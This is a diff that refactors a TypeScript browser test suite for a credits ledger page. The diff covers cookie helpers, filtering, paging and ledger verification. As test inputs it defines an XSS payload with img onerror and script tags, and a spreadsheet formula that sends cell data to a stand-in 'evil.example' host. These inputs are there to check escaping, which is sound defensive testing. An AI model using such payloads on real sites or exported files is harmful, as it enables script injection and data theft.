@@ -11,7 +11,7 @@ import { waitFor } from "../support/wait-for.ts";
 import { startWholeService, type WholeService } from "../support/whole-service.ts";
 import { NARROW, openBrowser, type SiteBrowser } from "./support/browser.ts";
 import { cookiesOf } from "./support/forms.ts";
-import { type Browser, signInAs } from "./support/sign-in.ts";
+import { type Browser, callOf, signInAs } from "./support/sign-in.ts";
 
 const ATTACK = `"><img src=x onerror="document.title='broken in'"><script>document.title='broken in'</script>`;
 const FORMULA = '=HYPERLINK("https://evil.example?"&A1)';
@@ -44,8 +44,6 @@ afterAll(async () => {
   await service.close();
 });
 
-const callOf = (who: Browser) =>
-  ({ caller: { kind: "account", accountId: who.accountId, source: "app" }, deadlineMs: 30_000 }) as const;
 const grant = (to: Browser, amount: number, memo: string | null = null) =>
   grantCredits(service.app, { accountId: to.accountId, amount, kind: "grant", memo, source: "system" });
 
@@ -61,7 +59,7 @@ async function generate(who: Browser, prompt: string, params = {}, model = "pict
 
 describe("the credits page", () => {
   test("[LED-04] shows balance and spending, and each entry with its job", async () => {
-    await browser.visit("/credits", { cookies: cookiesOf(ada, service.url) }, async (visit) => {
+    await browser.visit("/credits", { cookies: cookiesOf(ada) }, async (visit) => {
       const { page } = visit;
       expect(await page.locator(".tile__amount").allTextContents()).toEqual(["985", "0", "985"]);
       expect(await page.locator("main h2").first().textContent()).toBe("Verify your ledger");
@@ -95,7 +93,7 @@ describe("the credits page", () => {
   test("[SITE-20] folds a job into one row with its prompt, which opens to its entries", async () => {
     await browser.visit(
       "/credits",
-      { cookies: cookiesOf(ada, service.url), scripts: false },
+      { cookies: cookiesOf(ada), scripts: false },
       async ({ page, screenshot }) => {
         const rows = page.locator(".ledger__row");
         expect(await rows.locator(".ledger__title").allTextContents()).toEqual([
@@ -133,7 +131,7 @@ describe("the credits page", () => {
     const [, link = ""] = /href="(\/credits\?entry=[^"]+_debit#entry)"/.exec(text) ?? [];
     await browser.visit(
       link.replaceAll("&amp;", "&"),
-      { cookies: cookiesOf(ada, service.url), scripts: false },
+      { cookies: cookiesOf(ada), scripts: false },
       async ({ page }) => {
         expect(await page.locator(".ledger__title").allTextContents()).toEqual(["a tower", FORMULA, ATTACK]);
         expect(await page.locator("#entry .ledger__entries").isVisible()).toBe(true);
@@ -150,7 +148,7 @@ describe("the credits page", () => {
     const many = await signInAs(service, "many@example.com");
     for (let i = 0; i < 40; i++)
       await grant(many, 10, `A grant with a rather long story behind it, number ${i}`);
-    const visit = { cookies: cookiesOf(many, service.url), width: NARROW };
+    const visit = { cookies: cookiesOf(many), width: NARROW };
     await browser.visit("/credits", visit, async ({ page }) => {
       expect(await page.locator(".ledger__row").count()).toBe(20);
       expect(await page.evaluate("document.documentElement.scrollHeight")).toBeLessThan(3_500);
@@ -162,36 +160,32 @@ describe("the credits page", () => {
   });
 
   test("[LED-06] filters the ledger by kind, job and days, with and without scripts", async () => {
-    await browser.visit(
-      "/credits",
-      { cookies: cookiesOf(ada, service.url), scripts: false },
-      async ({ page }) => {
-        const rows = page.locator(".ledger__row");
-        await page.click("text=Filter");
-        await page.selectOption("#kind", "refund");
-        await page.click("text=Apply");
-        expect(await page.locator(".ledger__title").allTextContents()).toEqual(["fail"]);
-        await page.selectOption("#kind", "");
-        await page.fill("#job_id", ` ${adasJob} `);
-        await page.click("text=Apply");
-        expect(await rows.count()).toBe(1);
-        expect(await page.inputValue("#job_id")).toBe(adasJob);
-        const today = new Date().toISOString().slice(0, 10);
-        await page.goto(`/credits?from=${today}&to=${today}`);
-        expect(await rows.count()).toBe(5);
-        for (const none of ["to=2020-01-01", "from=2999-01-01"]) {
-          await page.goto(`/credits?${none}`);
-          expect(await page.textContent(".empty__title"), none).toBe("No matching entries");
-        }
-      },
-    );
+    await browser.visit("/credits", { cookies: cookiesOf(ada), scripts: false }, async ({ page }) => {
+      const rows = page.locator(".ledger__row");
+      await page.click("text=Filter");
+      await page.selectOption("#kind", "refund");
+      await page.click("text=Apply");
+      expect(await page.locator(".ledger__title").allTextContents()).toEqual(["fail"]);
+      await page.selectOption("#kind", "");
+      await page.fill("#job_id", ` ${adasJob} `);
+      await page.click("text=Apply");
+      expect(await rows.count()).toBe(1);
+      expect(await page.inputValue("#job_id")).toBe(adasJob);
+      const today = new Date().toISOString().slice(0, 10);
+      await page.goto(`/credits?from=${today}&to=${today}`);
+      expect(await rows.count()).toBe(5);
+      for (const none of ["to=2020-01-01", "from=2999-01-01"]) {
+        await page.goto(`/credits?${none}`);
+        expect(await page.textContent(".empty__title"), none).toBe("No matching entries");
+      }
+    });
     for (const query of ["kind=gift", "from=soon", "cursor=nonsense"])
       expect([query, (await ada.call(`/credits?${query}`)).status]).toEqual([query, 400]);
   });
 
   test("[LED-06] is paged, and says when there are no entries", async () => {
     const grace = await signInAs(service, "grace@example.com");
-    const visit = { cookies: cookiesOf(grace, service.url) };
+    const visit = { cookies: cookiesOf(grace) };
     await browser.visit("/credits", visit, async ({ page, expectAccessible, screenshot }) => {
       expect(await page.textContent(".empty__title")).toBe("No entries yet");
       await page.click("#verify");
@@ -231,22 +225,18 @@ describe("verifying the ledger in the browser", () => {
   const verify = (
     change: (entries: LedgerEntryResource[]) => LedgerEntryResource[],
   ): Promise<string | null> =>
-    browser.visit(
-      "/credits",
-      { cookies: cookiesOf(ada, service.url) },
-      async ({ page, expectAccessible }) => {
-        await page.route("**/account/api/credits/ledger?*", async (route) => {
-          const response = await route.fetch();
-          const body = (await response.json()) as { result: { data: LedgerEntryResource[] } };
-          body.result.data = change(body.result.data);
-          await route.fulfill({ response, json: body });
-        });
-        await page.click("#verify");
-        await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
-        await expectAccessible();
-        return page.textContent("#verify-result");
-      },
-    );
+    browser.visit("/credits", { cookies: cookiesOf(ada) }, async ({ page, expectAccessible }) => {
+      await page.route("**/account/api/credits/ledger?*", async (route) => {
+        const response = await route.fetch();
+        const body = (await response.json()) as { result: { data: LedgerEntryResource[] } };
+        body.result.data = change(body.result.data);
+        await route.fulfill({ response, json: body });
+      });
+      await page.click("#verify");
+      await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
+      await expectAccessible();
+      return page.textContent("#verify-result");
+    });
   const changed = (seq: number, change: Partial<LedgerEntryResource>) => (entries: LedgerEntryResource[]) =>
     entries.map((entry) => (entry.seq === seq ? { ...entry, ...change } : entry));
 
@@ -263,7 +253,7 @@ describe("verifying the ledger in the browser", () => {
   test("[SITE-22] remembers its last result, and notices when those entries are missing", async () => {
     const cleo = await signInAs(service, "cleo@example.com");
     for (let i = 0; i < 3; i++) await grant(cleo, 1);
-    await browser.visit("/credits", { cookies: cookiesOf(cleo, service.url) }, async ({ page }) => {
+    await browser.visit("/credits", { cookies: cookiesOf(cleo) }, async ({ page }) => {
       const verify = async () => {
         await page.click("#verify");
         await page.waitForSelector("#verify-result[data-outcome=holds], #verify-result[data-outcome=broken]");
@@ -296,7 +286,7 @@ describe("verifying the ledger in the browser", () => {
   test("reads every page", async () => {
     const long = await signInAs(service, "long@example.com");
     for (let i = 0; i < 201; i++) await grant(long, 1);
-    await browser.visit("/credits", { cookies: cookiesOf(long, service.url) }, async ({ page }) => {
+    await browser.visit("/credits", { cookies: cookiesOf(long) }, async ({ page }) => {
       await page.click("#verify");
       await page.waitForSelector("#verify-result[data-outcome=holds]");
       expect(await page.textContent("#verify-result")).toContain("All 201 entries hold");
@@ -312,7 +302,7 @@ describe("verifying the ledger in the browser", () => {
   test("reports why it could not be completed", async () => {
     const answer = await browser.visit(
       "/credits",
-      { cookies: cookiesOf(ada, service.url), expectedErrors: /503/ },
+      { cookies: cookiesOf(ada), expectedErrors: /503/ },
       async ({ page }) => {
         await page.route("**/account/api/credits/balance", (route) =>
           route.fulfill({ status: 503, json: { message: "Away.", hint: "Try again." } }),
